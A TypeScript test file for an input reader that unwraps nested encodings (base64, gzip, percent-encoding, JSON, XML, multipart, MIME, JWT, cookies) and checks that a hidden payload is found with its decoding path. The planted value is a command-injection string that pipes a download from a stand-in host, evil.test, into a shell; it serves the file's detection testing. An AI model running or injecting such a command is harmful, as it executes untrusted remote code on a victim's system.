import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { deflateSync, gzipSync } from 'node:zlib';
import { readEvent } from '../reader.ts';

const base64 = (data: string | Buffer): string => Buffer.from(data).toString('base64');
const base64url = (data: string | Buffer): string => Buffer.from(data).toString('base64url');
const percent = (text: string): string => text.replace(/[^A-Za-z0-9]/g, (unit) => `%${unit.charCodeAt(0).toString(16).padStart(2, '0')}`);
const escaped = (text: string): string => text.replace(/[^A-Za-z0-9]/g, (unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, '0')}`);
const entity = (text: string): string => text.replace(/[^A-Za-z0-9]/g, (unit) => `&#${unit.charCodeAt(0)};`);
const fullWidth = (text: string): string => text.replace(/[!-~]/g, (unit) => String.fromCharCode(unit.charCodeAt(0) + 0xfee0));
const quotedPrintable = (text: string): string =>
  text.replace(/[^A-Za-z0-9]/g, (unit) => `=${unit.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')}`);
const part = (headers: string, content: string): string =>
  `--b1\r\nContent-Disposition: form-data; ${headers}\r\n\r\n${content}\r\n--b1--\r\n`;
const mail = (headers: string, body: string): string => `From: a@b.c\r\nSubject: x\r\n${headers}\r\n\r\n${body}`;

// What an attacker sent, in a value of its own and with what stands around it.
const attack = '; curl http://evil.test | sh';

/** Each carrier with a way in which the attack comes out of it; where several come first in turn, none is named. */
const rows: readonly (readonly [name: string, carrier: string, steps: string])[] = [
  ['percent, twice', percent(percent(attack)), 'url › url'],
  ['base64 of base64 of base64', base64(base64(base64(attack))), 'base64 › base64 › base64'],
  ['gzip in base64 in base64', base64(base64(gzipSync(attack))), 'base64 › base64 › gzip'],
  ['deflate in base64url', base64url(deflateSync(attack)), 'base64url › deflate'],
  [
    'base64 in a parameter of a URL in JSON',
    JSON.stringify({ u: `https://h.example/p?d=${encodeURIComponent(base64(attack))}` }),
    'json:$.u › form:$.d › base64',
  ],
  ['base64 in a path of a URL', `/files/${base64url(attack)}.json`, ''],
  ['JSON in JSON in JSON', JSON.stringify({ a: JSON.stringify({ b: JSON.stringify([attack]) }) }), 'json:$.a › json:$.b › json:$[0]'],
  ['JSON in a form', `a=1&p=${encodeURIComponent(JSON.stringify({ q: attack }))}`, 'form:$.p › json:$.q'],
  ['entities in XML', `<a><b>${entity(entity(attack))}</b></a>`, ''],
  ['percent in an attribute', `<a><b c="${percent(attack)}"/></a>`, ''],
  ['XML in base64 in JSON', JSON.stringify([base64(`<a>${attack}</a>`)]), 'json:$[0] › base64 › xml:/a'],
  ['JSON in CDATA', `<a><![CDATA[${JSON.stringify({ x: attack })}]]></a>`, 'xml:/a › json:$.x'],
  ['escapes in JSON in a string', JSON.stringify({ a: escaped(attack) }), 'json:$.a › escapes'],
  ['escapes in percent-encoding', percent(escaped(attack)), 'url › escapes'],
  ['full width in percent-encoding', encodeURIComponent(fullWidth(attack.replaceAll(' ', '　'))), 'url › fold'],
  ['JSON in a part of a form', part('name="j"', JSON.stringify({ a: attack })), 'multipart:$.j › json:$.a'],
  ['a file name in percent-encoding', part(`name="f"; filename="${percent(attack)}"`, 'x'), 'multipart:$.f#filename › url'],
  ['a form in base64 that is multipart', base64(part('name="j"', attack)), 'base64 › multipart:$.j'],
  ['JSON in a body in base64', mail('Content-Transfer-Encoding: base64', base64(JSON.stringify({ a: attack }))), 'mime:$#body › json:$.a'],
  [
    'JSON in an attachment in base64',
    mail(
      'Content-Type: multipart/mixed; boundary=b2',
      `--b2\r\nContent-Type: application/json; name=x.json\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64(JSON.stringify({ a: attack }))}\r\n--b2--`,
    ),
    'mime:$#body › multipart:$[0] › json:$.a',
  ],
  [
    'a message in a message',
    mail(
      'Content-Type: multipart/mixed; boundary=b2',
      `--b2\r\nContent-Type: message/rfc822\r\n\r\n${mail(`X-Note: ${attack}`, 'y')}\r\n--b2--`,
    ),
    '',
  ],
  ['an encoded word in JSON', JSON.stringify({ subject: `=?utf-8?B?${base64(attack)}?=` }), ''],
  ['quoted-printable in base64', base64(quotedPrintable(attack)), 'base64 › quoted-printable'],
  ['a cookie with JSON', `theme=dark; s=j:${encodeURIComponent(JSON.stringify({ a: attack }))}`, 'cookie:$.s › url › json:$.a'],
  [
    'claims of a token in a cookie',
    `a=b; t=${base64url('{"alg":"none"}')}.${base64url(JSON.stringify({ sub: attack }))}.`,
    'cookie:$.t › jwt.payload:$.sub',
  ],
  [
    'the header of a token',
    `Bearer ${base64url(JSON.stringify({ alg: 'HS256', kid: attack }))}.${base64url('{}')}.c2ln`,
    'jwt.header:$.kid',
  ],
  ['credentials', `Basic ${base64(`user:${attack}`)}`, ''],
  ['lines of JSON in gzip in base64', base64(gzipSync(`{"a":1}\n${JSON.stringify({ a: attack })}\n`)), 'base64 › gzip › json-lines[1]:$.a'],
  ['a cell of a table in base64', base64(`id,note\n1,x\n2,"${attack}"\n`), 'base64 › csv:$[2].note'],
  [
    'GraphQL in JSON',
    JSON.stringify({ query: `mutation { add(note: ${JSON.stringify(attack)}) { id } }` }),
    'json:$.query › graphql:$.add.note',
  ],
  ['a data: URL in a document', `<a><b c="data:text/plain;base64,${base64(attack)}"/></a>`, 'xml:/a/b/@c › base64'],
  ['JSON5 in a form', `p=${encodeURIComponent(`{a: '${attack}',}`)}`, 'form:$.p › json:$.a'],
  ['JSONP', `cb(${JSON.stringify({ a: attack })});`, 'json:$.a'],
];

describe('nested encodings', () => {
  for (const [name, carrier, steps] of rows)
    test(name, () => {
      const found = readEvent({ v: carrier }).values.filter(({ text }) => text.trim() === attack || text === `user:${attack}`);
      const ways = found.map(({ encodings }) => encodings.join(' › '));
      assert.ok(steps === '' ? ways.length > 0 : ways.includes(steps), `${carrier}\n${ways.join('\n')}`);
      assert.ok(found.every(({ path }) => path === '$.v'));
    });
  test('has a table', (context) => context.diagnostic(`note: nested encodings: ${rows.length} rows`));
});

test('views of one text do not multiply', () => {
  const mixed = `%41%253b &lt;&amp;lt; \\x3b\\\\u003b ＜ =?utf-8?Q?=3B?= a=1; b=2 +ADw- =3B=3C ${base64(attack)}`;
  const { values, incomplete } = readEvent({ v: mixed });
  assert.equal(incomplete, undefined);
  assert.ok(values.length < 600, `${values.length} views`);
  assert.equal(new Set(values.map(({ text }) => text)).size, values.length);
});
